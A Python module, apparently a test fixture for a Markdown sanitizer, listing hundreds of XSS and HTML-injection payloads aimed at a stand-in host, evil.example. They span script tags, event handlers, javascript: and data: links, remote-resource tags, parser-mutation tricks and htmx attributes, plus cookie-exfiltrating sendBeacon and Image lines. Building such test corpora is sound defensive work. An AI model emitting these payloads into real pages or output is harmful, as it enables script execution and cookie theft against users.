"""Texts that try to run a script, load or send something, or change the page, when shown as Markdown.

`{out}` is an address that nobody may be asked for; a script that runs calls `alert`.
"""

_SCRIPTS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//{out}/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script >
<script type=module>import "https://{out}/m.js"</script>
</p></div></article><script>alert(1)</script>
]]><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?><script>alert(1)</script>
<!DOCTYPE x [<!ENTITY y SYSTEM "https://{out}/e">]>&y;
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<xmp><script>alert(1)</script></xmp>
<plaintext><script>alert(1)</script>
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
<script>alert(1)//
<<script>alert(1);//<</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&LT;img src=x onerror=alert(1)&GT;
"""

_HANDLERS = r"""
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)" <b>
<img/src/onerror=alert(1)>
<img src=x:x onerror	=	alert(1)>
<IMG SRC=`x` ONERROR=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<body onload=alert(1)>
<details open ontoggle=alert(1)>x</details>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<video src=x onerror=alert(1)></video>
<audio src onloadstart=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<p style="animation-name:x" onanimationstart=alert(1)>x</p>
<div onpointerover=alert(1) style="position:fixed;inset:0">x</div>
<a href=# onclick=alert(1) accesskey=x>x</a>
<p tabindex=1 autofocus onfocus=alert(1)>x</p>
<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>
<b onmouseover=alert(1)//
**<img src=x onerror=alert(1)>**
`<img src=x onerror=alert(1)>`
*a<img src=x onerror=alert(1)*b>*
~~<svg onload=alert(1)>~~
# <img src=x onerror=alert(1)>
- <img src=x onerror=alert(1)>
> <img src=x onerror=alert(1)>
$<img src=x onerror=alert(1)>$
$$<img src=x onerror=alert(1)>$$
\(<img src=x onerror=alert(1)>\)
\<img src=x onerror=alert(1)>
"""

_ADDRESSES = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#x73;cript:alert(1))
[x](java&Tab;script:alert(1))
[x](&#106;avascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](  javascript:alert(1))
[x](<javascript:alert(1)>)
[x](\javascript:alert(1))
[x](jav%61script:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg/onload=alert(1)>)
[x](file:///etc/passwd)
[x](blob:https://{out}/1)
[x](//{out}/a)
[x](https://{out}/?q=a"onmouseover="alert(1))
[x](https://{out} "t' onmouseover=alert(1) x='")
[x](https://{out} (a"b<img src=x onerror=alert(1)>))
[<img src=x onerror=alert(1)>](https://{out}/)
[`<img src=x onerror=alert(1)>`](https://{out}/)
[a](b)[c](<d)[e](javascript:alert(1)
<javascript:alert(1)>
<JAVASCRIPT&colon;alert(1)>
<data:text/html,x>
<https://{out}/"onclick="alert(1)>
<a@b.c"onclick="alert(1)>
<mailto:x@{out}?body=y>
https://{out}/plain
www.{out}
[^1] and [^1]: <img src=x onerror=alert(1)>
*[HTML]: <script>alert(1)</script>
<a href="javascript:alert(1)">x</a>
<a href="https://{out}/ping" ping="https://{out}/p">x</a>
<a href="&#1;javascript:alert(1)">x</a>
"""

_REQUESTS = r"""
![x](https://{out}/i.png?q=secret)
![x](//{out}/i.png)
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![![x](https://{out}/in.png)](https://{out}/out.png)
[![x](https://{out}/in.png)](https://{out}/link)
![x](https://{out}/i.png "t" onerror=alert(1))
![<img src=//{out}/a>](https://{out}/b)
![x" onerror="alert(1)](x)
<img src="https://{out}/i.png">
<img srcset="https://{out}/1x.png 1x, https://{out}/2x.png 2x">
<picture><source srcset=//{out}/s><img></picture>
<image href=//{out}/image>
<link rel=stylesheet href=//{out}/c.css>
<link rel=prefetch href=//{out}/p>
<link rel=dns-prefetch href=//{out}>
<style>@import "//{out}/i.css"; *{background:url(//{out}/u)}</style>
<p style="background:url(//{out}/u)">x</p>
<table background=//{out}/t><tr><td>x</td></tr></table>
<body background=//{out}/b>
<meta http-equiv=refresh content="0;url=https://{out}/">
<base href=https://{out}/>
<iframe src=//{out}/f></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<frameset><frame src=//{out}/f></frameset>
<object data=//{out}/o></object>
<embed src=//{out}/e>
<applet code=x codebase=//{out}/></applet>
<video poster=//{out}/v><source src=//{out}/s><track default src=//{out}/t></video>
<form action=https://{out}/ method=post><input name=x value=y><button>x</button></form>
<input type=image src=//{out}/i formaction=//{out}/f>
<svg><image href=//{out}/s /><use href=//{out}/u#x /></svg>
<svg><style>*{fill:url(//{out}/f)}</style></svg>
<svg><animate attributeName=href values="javascript:alert(1)" /></svg>
<math><mtext href=//{out}/m xlink:href="javascript:alert(1)">x</mtext></math>
<script>new Image().src="https://{out}/"+document.cookie</script>
<script>navigator.sendBeacon("https://{out}/b", document.cookie)</script>
"""

_MUTATIONS = r"""
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><slot></slot><img src=x onerror=alert(1)></template>
<table><caption><img src=x onerror=alert(1)></caption></table>
<table><td><script>alert(1)</script></table>
<textarea></textarea><img src=x onerror=alert(1)>
<title></title><img src=x onerror=alert(1)>
<select><option><img src=x onerror=alert(1)></select>
<style><style/><img src=x onerror=alert(1)>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<a><table><a><img src=x onerror=alert(1)></table></a>
<!-- <img src=x onerror=alert(1)> -->
<!--><img src=x onerror=alert(1)>-->
<!-- a -- ><img src=x onerror=alert(1)><!--
1. <ol start="1" onclick=alert(1)>
999999999. x
"""

_PAGE = r"""
<div id=vote name=vote>x</div>
<form id=battle data-url=//{out}/><input name=action></form>
<a id=htmx><a id=htmx name=ajax href=//{out}>x</a></a>
<div hx-get=//{out}/h hx-trigger=load>x</div>
<div data-hx-get=//{out}/h data-hx-trigger=load>x</div>
<hx-partial hx-target=#vote>x</hx-partial>
<div id=turn-1-a data-answer data-stream=//{out}/s>x</div>
<button data-copy=turn-1-a>x</button>
<p class=visually-hidden role=alert aria-live=assertive>x</p>
<img name=getElementById><img name=querySelector>
<p style="position:fixed;inset:0;z-index:99">x</p>
<h2 id=thanks-title tabindex=-1>x</h2>
# x {#vote .x onclick=alert(1)}
::: {onclick=alert(1)}
{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %>
<ruby>x<rt>y</rt></ruby><dialog open>z</dialog>
<slot name=x></slot><x-y onclick=alert(1)></x-y>
"""

_HALF_OPEN = r"""
<img src=x onerror=alert(1)
<img src="x
<img src='x' onerror='alert(1)
<a href="javascript:alert(1)
</
<
<!
<!-
&
&#
&#x
&lt
[x](
[x](<
![x](https://{out}/half
**<b onclick="
`<b
"""


_BLOCKS = (
    "<script\n>alert(1)</script\n>",
    "[x](<java\nscript:alert(1)>)",
    "![x][y]\n\n[y]: https://{out}/reference.png",
    '```mermaid\ngraph LR; click x href "javascript:alert(1)"\n```',
    "```<img src=//{out}/info>\nx\n```",
    '~~~"onload="alert(1)\nx\n~~~',
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <td onclick=alert(1)> | </table><script>alert(1)</script> |",
    '| a | b |\n|:-:"onclick=alert(1)|---|',
    "[x]: javascript:alert(1) 'x'\n[x]",
    "\u202etxt.exe\u202c \u2066rtl\u2069 \u200fx",
    "a\u200bb\u200dc\ufeffd <\u200bscript>alert(1)</script>",
)

OUT = "evil.example"
_LINES = _SCRIPTS, _HANDLERS, _ADDRESSES, _REQUESTS, _MUTATIONS, _PAGE, _HALF_OPEN
ITEMS = tuple(
    item.replace("{out}", OUT)
    for items in (*(block.strip().split("\n") for block in _LINES), _BLOCKS)
    for item in items
)
